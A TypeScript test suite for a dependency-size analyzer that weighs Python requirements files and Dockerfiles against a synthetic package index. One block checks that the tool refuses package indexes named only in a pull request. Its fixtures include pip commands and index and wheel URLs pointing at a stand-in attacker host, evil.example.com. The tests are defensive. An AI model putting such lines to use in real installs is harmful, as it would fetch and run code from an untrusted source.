import { describe, expect, it } from 'vitest';
import { loadCatalogue } from '../../../src/catalogue/catalogue.ts';
import { analyzeTree } from '../../../src/commands/analyze/run.ts';
import { openLiveScale } from '../../../src/python/scale/live-scale.ts';
import type { NamedIndexes, Scale, Trust } from '../../../src/python/scale/scale.ts';
import { AnalyzeDetails } from '../../../src/report/analyze-details.ts';
import { EnvironmentError } from '../../../src/support/errors.ts';
import { analyzeFiles, type Files, memoryTree, memoryWorld, optionsFor } from '../../support/memory-world.ts';
import { type Releases, scaleOver, syntheticIndex } from '../../support/synthetic-index.ts';

const TABLE: Releases = {
  numpy: { '1.26.4': { download: 18, installed: 60 }, '2.2.0': { download: 20, installed: 70 } },
  pandas: {
    '2.2.0': { requires: ['numpy>=1.26'], download: 12, installed: 40 },
    '3.0.0': { requires: ['numpy>=2'], download: 14, installed: 45 },
  },
  tool: { '1.0': { requires: ['numpy<2'], download: 1, installed: 2 } },
  six: { '1.17.0': { download: 3, installed: 9 } },
  hidden: { '9.0': { download: 5, installed: 5 } },
};

const DOCKERFILE = 'FROM python:3.11-slim\nCOPY . .\nRUN pip install --no-cache-dir -r requirements.txt\n';

async function analyzed(files: Files, options: { base?: Files; config?: unknown; scale?: Scale } = {}) {
  const { report } = await analyzeFiles(files, {
    ...options,
    scale: options.scale ?? (await scaleOver(syntheticIndex(TABLE))),
  });
  return { report, details: AnalyzeDetails.parse(report.details) };
}

const messages = (notices: readonly { message: string }[] | undefined) =>
  (notices ?? []).map(({ message }) => message).join('\n');

describe('analyze over an index', () => {
  it('weighs manifests and images exactly, and says whom it asked', async () => {
    const { report, details } = await analyzed({
      Dockerfile: DOCKERFILE,
      'requirements.txt': 'pandas\nsix\n',
    });
    const metric = (id: string) => report.metrics.find((each) => each.id === id);
    expect(metric('manifest.requirements.txt.download')).toMatchObject({ value: 37, provenance: 'exact' });
    expect(metric('manifest.requirements.txt.installed')).toMatchObject({ value: 124, provenance: 'exact' });
    expect(metric('dockerfile.Dockerfile.python.installed')).toMatchObject({
      value: 124,
      provenance: 'exact',
    });
    expect(details.indexes).toEqual(['https://index.example.org/simple']);
    expect(details.manifests[0]?.source).toBe('index');
  });

  it('names the requirement that made the difference to the base', async () => {
    const { details } = await analyzed(
      { 'requirements.txt': 'pandas==2.2.0\nsix\ntool\n' },
      { base: { 'requirements.txt': 'pandas==2.2.0\nsix\n' } },
    );
    expect(details.manifests[0]?.difference?.map(({ name, neededBy }) => [name, neededBy])).toEqual([
      ['numpy', ['pandas', 'tool']],
      ['tool', ['tool']],
    ]);
  });

  it('shows requirements that exclude each other where they stand, and goes on', async () => {
    const { report } = await analyzed({
      'service/requirements.txt': '# service\nsix\ntool\nnumpy>=2\n',
      'requirements.txt': 'six\n',
    });
    const [finding, ...others] = report.findings.filter(({ rule }) => rule === 'conflicting-requirements');
    expect(others).toEqual([]);
    expect(finding?.location).toMatchObject({ path: 'service/requirements.txt', startLine: 3 });
    expect(finding?.message).toContain("your requirements can't all be met");
    expect(report.metrics.find(({ id }) => id === 'manifest.requirements.txt.download')?.value).toBe(3);
  });

  it('shows them in an included file', async () => {
    const { report } = await analyzed({
      'requirements.txt': '-r base.txt\nsix\n',
      'base.txt': 'six\n\ntool\nnumpy>=2\n',
    });
    const found = report.findings.filter(({ rule }) => rule === 'conflicting-requirements');
    expect(found.map(({ location }) => [location?.path, location?.startLine])).toContainEqual([
      'base.txt',
      3,
    ]);
  });

  it('says what no index knows as a gap, not as an error', async () => {
    const { report } = await analyzed({ 'requirements.txt': 'six\nour-own-package==1\n' });
    expect(report.findings.map(({ rule }) => rule)).not.toContain('conflicting-requirements');
    expect(report.metrics.find(({ id }) => id === 'manifest.requirements.txt.download')).toMatchObject({
      value: null,
      provenance: 'unknown',
    });
    expect(messages(report.notices) + JSON.stringify(report.details)).toContain('our-own-package');
  });

  it('counts what the base image brings as there', async () => {
    const { report } = await analyzed(
      { Dockerfile: DOCKERFILE, 'requirements.txt': 'pandas\nsix\n' },
      { config: { 'base-provides': ['numpy==2.2.0', 'pandas'] } },
    );
    expect(report.metrics.find(({ id }) => id === 'dockerfile.Dockerfile.python.download')).toMatchObject({
      value: 3,
      provenance: 'exact',
    });
  });

  it('gives the same bytes for the same input', async () => {
    const files = {
      Dockerfile: DOCKERFILE,
      'requirements.txt': 'pandas\ntool\nnumpy>=2\n',
      'a/requirements.txt': 'six\n',
    };
    const once = await analyzed(files, { base: { 'requirements.txt': 'six\n' } });
    const twice = await analyzed(files, { base: { 'requirements.txt': 'six\n' } });
    expect(JSON.stringify(twice.report)).toBe(JSON.stringify(once.report));
  });

  it('answers from the catalogue when the index does not, with one notice', async () => {
    let asked = 0;
    const scale = openLiveScale({
      catalogue: await loadCatalogue(),
      open: async () => ({
        ...syntheticIndex({}),
        index: {
          project: async () => {
            asked += 1;
            throw new EnvironmentError('the package index does not answer');
          },
        },
        facts: null,
        labels: ['gone'],
        notes: [],
      }),
    });
    const files = { Dockerfile: DOCKERFILE, 'requirements.txt': 'numpy\n', 'a/requirements.txt': 'six\n' };
    const { report, details } = await analyzed(files, { scale });
    expect(report.metrics.find(({ id }) => id === 'manifest.requirements.txt.download')?.provenance).toBe(
      'estimated',
    );
    expect(messages(report.notices).match(/does not answer/g)).toHaveLength(1);
    expect(details.indexes).toBeUndefined();
    expect(asked).toBe(1);
  });
});

describe('indexes that files of the repository name', () => {
  const NAMED = 'https://private.example.com/simple';
  const named = (url: string) => `--extra-index-url ${url}\nhidden\n`;

  /** A scale that keeps what it was asked to open, by the addresses that are trusted. */
  async function watched() {
    const trusted = new Set<string>();
    const refused = new Set<string>();
    const own = syntheticIndex(TABLE);
    const scale = openLiveScale({
      catalogue: await loadCatalogue(),
      open: async (indexes: readonly NamedIndexes[], trusts: Trust) => {
        for (const { configuration } of indexes)
          for (const { url } of configuration.indexes) (trusts(url) ? trusted : refused).add(url);
        return { ...own, facts: null, labels: ['own'], notes: [] };
      },
    });
    return { scale, trusted, refused };
  }

  /** As for a pull request: addresses count when the base commit's files name them. */
  async function pullRequest(head: Files, base: Files) {
    const { scale, trusted, refused } = await watched();
    await analyzeTree(
      { ...optionsFor({ base }), addressesOf: memoryTree(base) },
      await memoryWorld(head, scale),
    );
    return { trusted: [...trusted].sort(), refused: [...refused].sort() };
  }

  it('are asked where the base names them', async () => {
    const files = { 'requirements.txt': named(NAMED) };
    expect(await pullRequest(files, files)).toEqual({ trusted: [NAMED], refused: [] });
  });

  it('are never asked where only the pull request names them', async () => {
    expect(
      await pullRequest(
        {
          'requirements.txt': named('https://evil.example.com/simple'),
          Dockerfile: 'FROM python:3.11\nRUN pip install -i https://evil.example.com/other six\n',
        },
        { 'requirements.txt': named(NAMED), 'README.md': 'https://evil.example.com/simple' },
      ),
    ).toEqual({
      trusted: [NAMED],
      refused: ['https://evil.example.com/other', 'https://evil.example.com/simple'],
    });
  });

  it('are asked where the working tree is its own', async () => {
    const { scale, trusted } = await watched();
    await analyzed({ 'requirements.txt': named(NAMED) }, { scale });
    expect([...trusted]).toEqual([NAMED]);
  });

  it('name no wheel for a pull request, whoever serves it', async () => {
    const table = syntheticIndex(TABLE);
    const head = { 'requirements.txt': 'hidden @ https://evil.example.com/hidden-9.0-py3-none-any.whl\n' };
    await analyzeTree(
      { ...optionsFor({ base: {} }), addressesOf: memoryTree({}) },
      await memoryWorld(head, await scaleOver(table)),
    );
    expect(table.asked.join()).not.toContain('evil.example.com');
  });
});

describe('manifests made to cost', () => {
  it('of 10,000 lines are weighed in bounded time, with a message', async () => {
    const lines = Array.from({ length: 10_000 }, (_, at) => `name-${at}==1.${at}`).join('\n');
    const table = syntheticIndex(TABLE);
    const started = performance.now();
    const { report } = await analyzed({ 'requirements.txt': lines }, { scale: await scaleOver(table) });
    expect(performance.now() - started).toBeLessThan(6_000);
    expect(messages(report.notices)).toContain('3000 requirements');
    expect(table.asked).toEqual([]);
  });
});
